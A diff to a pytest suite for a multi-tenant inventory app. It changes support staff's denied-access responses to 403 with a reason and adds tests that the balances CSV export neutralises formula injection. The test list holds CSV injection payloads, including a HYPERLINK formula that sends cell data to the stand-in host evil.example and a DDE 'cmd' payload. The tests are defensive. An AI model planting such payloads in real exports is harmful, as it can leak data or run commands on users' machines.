@@ -187,8 +187,14 @@ def test_another_organisations_owner_gets_404(path, as_globex_owner, stock):
 
 
 @pytest.mark.parametrize("path", PAGES)
-def test_support_staff_get_404_for_balances(path, as_acme_support, stock):
-    assert as_acme_support.get(path).status_code == 404
+def test_it_tells_support_staff_why_they_cannot_see_balances(path, as_acme_support, stock):
+    # They know acme (it is in their queue): a 403 with the reason, not "No such organisation".
+    response = as_acme_support.get(path)
+    assert response.status_code == 403
+    html = text(response)
+    assert "Your role in Acme Corporation is support" in html and "owners and admins" in html
+    assert "No such organisation" not in html and "B-0000" not in html
+    assert 'href="/"' in html  # a way back
 
 
 @pytest.mark.parametrize("path", PAGES)
@@ -242,6 +248,50 @@ def test_the_csv_holds_every_page(as_acme_owner, acme):
     _, *data = csv_rows(as_acme_owner.get("/orgs/acme/balances.csv"))
     assert len(data) == 60 == shown_total(as_acme_owner.get("/orgs/acme/balances/"))
     assert {r[5] for r in data} == {"5.000000"}
+
+
+NASTY_NAMES = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_it_neutralises_formulas_in_csv_text_cells(as_acme_owner, acme):
+    from inventory.models import Item, Location, Lot
+
+    with schema_context("acme"):
+        items = [
+            Item.objects.create(sku=f"=X{n}", name=name, unit="ea")
+            for n, name in enumerate(NASTY_NAMES)
+        ]
+        Location.objects.create(code="@LOC", name="x")
+        Lot.objects.create(item=items[0], code="-LOT")
+    post(
+        "acme",
+        [{"item": i.sku, "location": "@LOC", "qty": "-5", "kind": "adjustment"} for i in items]
+        + [{"item": "=X0", "location": "@LOC", "lot": "-LOT", "qty": "-1.25", "kind": "receipt"}],
+    )
+    _, *data = csv_rows(as_acme_owner.get("/orgs/acme/balances.csv?sort=item"))
+    by_name = {r[1]: r for r in data}
+    for n, name in enumerate(NASTY_NAMES):
+        row = by_name["'" + name]
+        assert row[0] == f"'=X{n}" and row[3] == "'@LOC"
+    with_lot = next(r for r in data if r[4])
+    assert with_lot[4] == "'-LOT" and with_lot[5] == "-1.250000"
+    # Quantities stay exact numbers: negative ones are not quoted, nor prefixed.
+    assert sorted(r[5] for r in data) == ["-1.250000"] + ["-5.000000"] * len(NASTY_NAMES)
+    raw = b"".join(as_acme_owner.get("/orgs/acme/balances.csv").streaming_content).decode()
+    assert ",-5.000000," in raw and "'-5" not in raw
+
+
+def test_it_leaves_ordinary_csv_text_as_it_is(as_acme_owner, stock):
+    _, *data = csv_rows(as_acme_owner.get("/orgs/acme/balances.csv"))
+    assert {r[0] for r in data} == {"B-0000", "B-0001", "B-0002"}
+    assert all(not cell.startswith("'") for r in data for cell in r)
 
 
 # --- item page -----------------------------------------------------------------------------------
@@ -312,7 +362,7 @@ def test_outsiders_cannot_see_an_item(as_globex_owner, as_acme_support, anon, st
     item = stock["items"][0]
     path = f"/orgs/acme/items/{item.id}/"
     assert as_globex_owner.get(path).status_code == 404
-    assert as_acme_support.get(path).status_code == 404
+    assert as_acme_support.get(path).status_code == 403
     assert_login_redirect(anon.get(path), path)
     # Nor through their own organisation's URL (the id belongs to acme's schema).
     assert as_globex_owner.get(f"/orgs/globex/items/{item.id}/").status_code == 404
